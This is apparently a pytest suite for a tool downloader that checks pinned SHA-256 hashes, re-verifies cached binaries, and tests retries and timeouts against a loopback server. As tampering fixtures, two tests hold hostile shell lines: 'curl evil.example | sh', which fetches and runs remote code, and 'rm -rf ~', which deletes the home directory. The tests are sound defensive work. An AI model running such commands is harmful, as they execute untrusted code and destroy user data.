"""Tool downloads: pinned SHA-256 per OS/arch, a cached copy hashed again on every reuse,
retries and timeouts against a loopback server that fails, then succeeds, or stalls."""

from __future__ import annotations

import hashlib
import io
import tarfile
import time
from dataclasses import replace
from pathlib import Path

import pytest
from test_clusters_tools import ARCH, KIND_BODY, OS, Server, kind_pin, no_path, server

from clusters.download import Fetcher
from clusters.errors import ToolError
from clusters.pins import ToolPin, load_pins
from clusters.tools import ensure_tool

__all__ = ["server"]  # the fixture, shared with test_clusters_tools
KIND_PATH = f"/v0.33.0/kind-{OS}-{ARCH}"
FAST_TIMEOUT_S = 0.5
STALL_BOUND_S = 10.0  # well above the retries' worst case below, well under the defaults


def fast(say: list[str] | None = None, retries: int = 2) -> Fetcher:
    sink = say if say is not None else []
    return Fetcher(connect_timeout_s=FAST_TIMEOUT_S, read_timeout_s=FAST_TIMEOUT_S,
                   retries=retries, backoff_s=0.0, say=sink.append)


def pinned(pin: ToolPin, digest: str) -> ToolPin:
    return replace(pin, sha256={f"{OS}-{ARCH}": digest})


def helm_archive(body: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        info = tarfile.TarInfo(f"{OS}-{ARCH}/helm")
        info.size = len(body)
        tar.addfile(info, io.BytesIO(body))
    return buf.getvalue()


def test_a_tampered_cached_binary_is_caught_on_reuse(server: Server, tmp_path: Path) -> None:
    server.publish(KIND_PATH[1:], KIND_BODY)
    pins, said = {"kind": kind_pin(server.base)}, list[str]()
    first = Path(ensure_tool("kind", pins=pins, cache=tmp_path / "c", which=no_path,
                             say=said.append))
    first.write_bytes(b"#!/bin/sh\ncurl evil.example | sh\n")
    again = ensure_tool("kind", pins=pins, cache=tmp_path / "c", which=no_path, say=said.append)
    assert Path(again).read_bytes() == KIND_BODY
    assert any("failed its check" in line and "expected" in line for line in said)
    assert server.requests.count(KIND_PATH) == 2  # fetched again, verified again


def test_a_tampered_binary_from_an_archive_is_caught_on_reuse(server: Server,
                                                             tmp_path: Path) -> None:
    body = b"#!/bin/sh\necho v4.2.3\n"
    server.publish(f"helm-v4.2.3-{OS}-{ARCH}.tar.gz", helm_archive(body))
    pin = ToolPin(name="helm", version="4.2.3", min_version="3.14.0",
                  version_argv=("version", "--short"), version_regex=r"v(\d+\.\d+\.\d+)",
                  url=server.base + "/helm-v{version}-{os}-{arch}.tar.gz",
                  checksum_url="{url}.sha256sum", archive_member="{os}-{arch}/helm")
    said: list[str] = []
    got = Path(ensure_tool("helm", pins={"helm": pin}, cache=tmp_path / "c", which=no_path,
                           say=said.append))
    assert ensure_tool("helm", pins={"helm": pin}, cache=tmp_path / "c", which=no_path) == str(got)
    got.write_bytes(b"#!/bin/sh\necho v4.2.3 # but not helm\n")
    ensure_tool("helm", pins={"helm": pin}, cache=tmp_path / "c", which=no_path, say=said.append)
    assert got.read_bytes() == body
    assert any("differs from" in line for line in said)


def test_a_pinned_hash_is_checked_without_the_servers_checksum(server: Server,
                                                               tmp_path: Path) -> None:
    server.publish(KIND_PATH[1:], KIND_BODY)
    pin = pinned(kind_pin(server.base), hashlib.sha256(KIND_BODY).hexdigest())
    said: list[str] = []
    ensure_tool("kind", pins={"kind": pin}, cache=tmp_path / "c", which=no_path, say=said.append)
    assert server.requests == [KIND_PATH] and said == []  # no checksum file, no warning


def test_a_binary_and_checksum_both_replaced_on_the_server_fail_the_pin(
        server: Server, tmp_path: Path) -> None:
    evil = b"#!/bin/sh\necho 'kind v0.33.0'; rm -rf ~\n"
    server.publish(KIND_PATH[1:], evil)  # its .sha256sum matches the evil binary
    pin = pinned(kind_pin(server.base), hashlib.sha256(KIND_BODY).hexdigest())
    with pytest.raises(ToolError, match="SHA-256 mismatch") as err:
        ensure_tool("kind", pins={"kind": pin}, cache=tmp_path / "c", which=no_path)
    assert f"SHA-256 {hashlib.sha256(KIND_BODY).hexdigest()}" in str(err.value)  # manual line
    assert [p for p in (tmp_path / "c").rglob("*") if p.is_file()] == []


def test_a_new_pin_invalidates_a_copy_verified_against_another(server: Server,
                                                               tmp_path: Path) -> None:
    server.publish(KIND_PATH[1:], KIND_BODY)
    ensure_tool("kind", pins={"kind": kind_pin(server.base)}, cache=tmp_path / "c", which=no_path)
    other = pinned(kind_pin(server.base), "ab" * 32)
    with pytest.raises(ToolError, match="SHA-256 mismatch"):
        ensure_tool("kind", pins={"kind": other}, cache=tmp_path / "c", which=no_path)


def test_a_missing_pin_warns_and_names_the_checksum_file(server: Server,
                                                         tmp_path: Path) -> None:
    server.publish(KIND_PATH[1:], KIND_BODY)
    said: list[str] = []
    ensure_tool("kind", pins={"kind": kind_pin(server.base)}, cache=tmp_path / "c", which=no_path,
                say=said.append)
    [warning] = said
    assert warning.startswith(f"warning: kind v0.33.0: no SHA-256 pinned for {OS}-{ARCH}")
    assert f"{server.base}{KIND_PATH}.sha256sum" in warning and "pins refresh" in warning


def test_transient_errors_are_retried(server: Server, tmp_path: Path) -> None:
    server.publish(KIND_PATH[1:], KIND_BODY)
    server.script = {KIND_PATH + ".sha256sum": ["503"], KIND_PATH: ["502", "stall"]}
    got = ensure_tool("kind", pins={"kind": kind_pin(server.base)}, cache=tmp_path / "c",
                      which=no_path, fetcher=fast())
    assert Path(got).read_bytes() == KIND_BODY
    assert server.requests.count(KIND_PATH) == 3


def test_a_server_that_keeps_failing_is_one_error_after_the_retries(
        server: Server, tmp_path: Path) -> None:
    server.publish(KIND_PATH[1:], KIND_BODY)
    server.script = {KIND_PATH + ".sha256sum": ["503"] * 5}
    with pytest.raises(ToolError, match="still failing after 2 retries") as err:
        ensure_tool("kind", pins={"kind": kind_pin(server.base)}, cache=tmp_path / "c",
                    which=no_path, fetcher=fast())
    assert "Install it by hand" in str(err.value) and "\n\n" not in str(err.value)
    assert server.requests.count(KIND_PATH + ".sha256sum") == 3
    assert [p for p in (tmp_path / "c").rglob("*") if p.is_file()] == []


def test_a_404_is_not_retried(server: Server, tmp_path: Path) -> None:
    with pytest.raises(ToolError, match="HTTP 404"):
        ensure_tool("kind", pins={"kind": kind_pin(server.base)}, cache=tmp_path / "c",
                    which=no_path, fetcher=fast())
    assert len(server.requests) == 1


@pytest.mark.parametrize(("script", "words"), [
    (["stall"] * 5, "no data for 0.5s"),
    (["stall-body"], "while reading the body"),
])
def test_a_stalled_server_times_out(server: Server, tmp_path: Path, script: list[str],
                                    words: str) -> None:
    server.publish(KIND_PATH[1:], KIND_BODY)
    server.script = {KIND_PATH: script}
    start = time.monotonic()
    with pytest.raises(ToolError, match=words):
        ensure_tool("kind", pins={"kind": kind_pin(server.base)}, cache=tmp_path / "c",
                    which=no_path, fetcher=fast())
    assert time.monotonic() - start < STALL_BOUND_S
    assert [p for p in (tmp_path / "c").rglob("*") if p.is_file()] == []


def test_a_download_longer_than_a_second_shows_progress(server: Server,
                                                        tmp_path: Path) -> None:
    body = b"#!/bin/sh\n" + b"#" * (3 << 20)
    server.publish(KIND_PATH[1:], body)
    ticks = iter(range(1000))
    said: list[str] = []
    fetcher = Fetcher(say=said.append, clock=lambda: 0.7 * next(ticks))
    ensure_tool("kind", pins={"kind": kind_pin(server.base)}, cache=tmp_path / "c",
                which=no_path, fetcher=fetcher, say=said.append)
    progress = [line for line in said if "kind 0.33.0" in line and "MB" in line]
    assert progress[0].startswith("downloading kind 0.33.0: ") and " of 3.1 MB" in progress[0]
    assert progress[-1].startswith("downloaded kind 0.33.0: 3.1 MB in ")


def test_a_quick_download_says_nothing_but_the_missing_pin(server: Server,
                                                           tmp_path: Path) -> None:
    server.publish(KIND_PATH[1:], KIND_BODY)
    said: list[str] = []
    ensure_tool("kind", pins={"kind": kind_pin(server.base)}, cache=tmp_path / "c",
                which=no_path, fetcher=Fetcher(say=said.append), say=said.append)
    assert len(said) == 1 and said[0].startswith("warning:")


def test_recorded_pins_are_sha256_digests() -> None:
    for pin in load_pins().values():
        assert all(len(v) == 64 and int(v, 16) >= 0 for v in pin.sha256.values())
        assert set(pin.sha256) <= {"linux-amd64", "linux-arm64", "darwin-amd64",
                                   "darwin-arm64"}


def test_a_malformed_pin_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "pins.yaml"
    text = (Path(__file__).parents[2] / "clusters" / "pins.yaml").read_text()
    path.write_text(text.replace("sha256: {}", "sha256: {kind: {'0.33.0': {linux-amd64: xyz}}}"))
    with pytest.raises(ToolError, match=r"sha256\.kind\.0\.33\.0: linux-amd64 is not"):
        load_pins(path)
